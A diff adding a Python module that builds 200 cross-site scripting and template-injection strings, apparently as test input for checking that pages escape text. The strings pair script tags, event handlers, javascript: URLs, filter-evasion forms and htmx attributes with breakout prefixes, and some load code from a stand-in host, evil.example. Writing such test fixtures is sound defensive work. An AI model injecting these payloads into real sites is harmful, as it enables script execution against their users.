@@ -1,0 +1,48 @@
+"""200 texts that would run a script, or break a page, if a page took them for anything but text."""
+
+from __future__ import annotations
+
+_RUNS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<base href=//evil.example/>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style='background:url(//evil.example/x)'>",
+    "<div hx-get=//evil.example/ hx-trigger=load>",
+    "<div hx-on:load='alert(1)'>",
+    "<div data-hx-on--load=alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "{{ 7*7 }}{% if 1 %}x{% endif %}",
+    "${alert(1)}#{alert(1)}<%= alert(1) %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
+_OUT_OF = ("", '">', "'>", "</script>", "</textarea></title>-->]]>")
+PAYLOADS = tuple(f"{out}{runs}" for runs in _RUNS for out in _OUT_OF)
